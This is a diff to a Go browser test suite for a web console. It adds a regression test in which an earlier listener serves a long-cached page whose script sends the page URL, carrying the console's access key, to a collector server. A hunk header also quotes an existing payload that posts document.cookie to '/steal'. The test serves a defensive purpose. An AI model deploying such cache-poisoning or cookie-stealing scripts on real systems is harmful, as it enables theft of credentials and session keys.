@@ -5,6 +5,7 @@ import (
 	"encoding/json"
 	"fmt"
 	"io"
+	"net"
 	"net/http"
 	"net/http/httptest"
 	"slices"
@@ -19,6 +20,7 @@ import (
 	"github.com/nexrun/nex/internal/testutil"
 	v1 "github.com/nexrun/nex/pkg/api/v1"
 	"github.com/nexrun/nex/pkg/client"
+	"github.com/nexrun/nex/pkg/natsconn"
 )
 
 // The console in a real Chromium against a real node: the overview shows the node; a
@@ -28,7 +30,7 @@ import (
 func TestBrowserConsole(t *testing.T) {
 	b := newBrowser(t)
 	e := newEnv(t, "system")
-	base := "http://" + e.addr
+	base := "http://" + e.addr + e.srv.Page()[:len(e.srv.Page())-1] // the page is at base+"/"
 	eventsSubject := v1.EventSubject("default", "x")
 	before := e.following(eventsSubject, v1.EventsStream("default"))
 
@@ -55,6 +57,7 @@ func TestBrowserConsole(t *testing.T) {
 	newNamespace(t, b, e)
 	crossOriginPost(t, b, e)
 	otherPortListener(t, b, e)
+	cachedByAnEarlierListener(t, b, e)
 
 	b.do(t, 20*time.Second, "the overview again", chromedp.Navigate(base+"/#/"), chromedp.WaitVisible(chromedp.CSS(`#recent-events li`)))
 	b.screenshot(t, "console-overview", false)
@@ -157,7 +160,7 @@ func hostileText(t *testing.T, b *browser, e *env) {
 	if n := eval[int](t, b, `document.querySelectorAll('#workloads img, #workloads script').length`); n != 0 {
 		t.Fatalf("the name became %d elements", n)
 	}
-	b.do(t, 20*time.Second, "the hostile workload's page", chromedp.Navigate("http://"+e.addr+"/#/workload/"+w.ID), chromedp.WaitVisible(chromedp.CSS(`#definition`)))
+	b.do(t, 20*time.Second, "the hostile workload's page", chromedp.Navigate("http://"+e.addr+e.srv.Page()+"#/workload/"+w.ID), chromedp.WaitVisible(chromedp.CSS(`#definition`)))
 	if got := eval[string](t, b, `document.querySelector('h1 .wname').textContent`); got != name {
 		t.Fatalf("the page's title shows %q", got)
 	}
@@ -233,6 +236,73 @@ fetch("/steal", {method: "POST", body: document.cookie + "|" + JSON.stringify(lo
 	}
 }
 
+// cachedByAnEarlierListener: a listener on a port before a console runs there serves its
+// page cacheable for a year, and the operator's browser opens it once; later the
+// console runs on that port and the browser opens the URL nex ui printed. The browser
+// showed the cached page for it, in the console's origin, which read the key from the
+// fragment and sent it away (a review stopped b's service with it). The console's page
+// is at a random path now: the cached page is never the one the URL names.
+func cachedByAnEarlierListener(t *testing.T, b *browser, e *env) {
+	var mu sync.Mutex
+	var told []string
+	collector := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		told = append(told, r.URL.RawQuery)
+		mu.Unlock()
+	}))
+	defer collector.Close()
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	addr := ln.Addr().String()
+	poison := &http.Server{Handler: http.HandlerFunc(func(rw http.ResponseWriter, _ *http.Request) {
+		rw.Header().Set("Cache-Control", "public, max-age=31536000, immutable")
+		rw.Header().Set("Content-Type", "text/html")
+		_, _ = fmt.Fprintf(rw, `<!doctype html><title>poisoned</title><script>
+fetch(%q + "/?h=" + encodeURIComponent(location.href), {mode: "no-cors"}).finally(() => { document.title = "sent"; });
+</script>`, collector.URL)
+	})}
+	go func() { _ = poison.Serve(ln) }()
+	b.do(t, 20*time.Second, "the earlier listener's page", chromedp.Navigate("http://"+addr+"/"))
+	b.waitTrue(t, 10*time.Second, "the earlier listener's page loaded", `document.title === "sent"`)
+	_ = poison.Close()
+	b.do(t, 10*time.Second, "another page", chromedp.Navigate("about:blank")) // the operator moves on
+
+	srv, err := New(Config{Conn: natsconn.Plain(e.conn), Namespace: "system", Version: "test"}, addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer srv.Close()
+	ln2, err := net.Listen("tcp", addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	hs := &http.Server{Handler: srv.Handler()}
+	go func() { _ = hs.Serve(ln2) }()
+	defer hs.Close()
+	mu.Lock()
+	told = nil
+	mu.Unlock()
+	b.do(t, 20*time.Second, "the console's URL", chromedp.Navigate(srv.URL(addr)))
+	leaked := func() string {
+		mu.Lock()
+		defer mu.Unlock()
+		for _, h := range told {
+			if strings.Contains(h, srv.Key()) {
+				return h
+			}
+		}
+		return ""
+	}
+	testutil.Eventually(t, 20*time.Second, "the console's overview, or the key sent away", func() bool {
+		return leaked() != "" || eval[bool](t, b, `!!document.querySelector('#nodes tr[data-node="`+e.nodeID+`"]')`)
+	})
+	if h := leaked(); h != "" {
+		t.Fatalf("the earlier listener's cached page, shown for the console's URL, sent away its key: %s", h)
+	}
+}
+
 // scaleGroup starts a replica group of one copy, opens the copy's page and scales the
 // group to 3 with its Scale button; the copies appear in the table.
 func scaleGroup(t *testing.T, b *browser, e *env) {
@@ -251,7 +321,7 @@ func scaleGroup(t *testing.T, b *browser, e *env) {
 		}
 		return err == nil && len(g.Copies) == 1
 	})
-	b.do(t, 20*time.Second, "the copy's page", chromedp.Navigate("http://"+e.addr+"/#/workload/"+st.Copies[0].ID), chromedp.WaitVisible(chromedp.CSS(`button[data-action="scale"]`)))
+	b.do(t, 20*time.Second, "the copy's page", chromedp.Navigate("http://"+e.addr+e.srv.Page()+"#/workload/"+st.Copies[0].ID), chromedp.WaitVisible(chromedp.CSS(`button[data-action="scale"]`)))
 	b.waitTrue(t, 5*time.Second, "the group's replicas in the scale box", `document.getElementById('replicas').value === "1"`)
 	eval[bool](t, b, `document.getElementById('replicas').value = "3"; true`)
 	b.do(t, 30*time.Second, "scale with the button", chromedp.Click(chromedp.CSS(`button[data-action="scale"]`)))
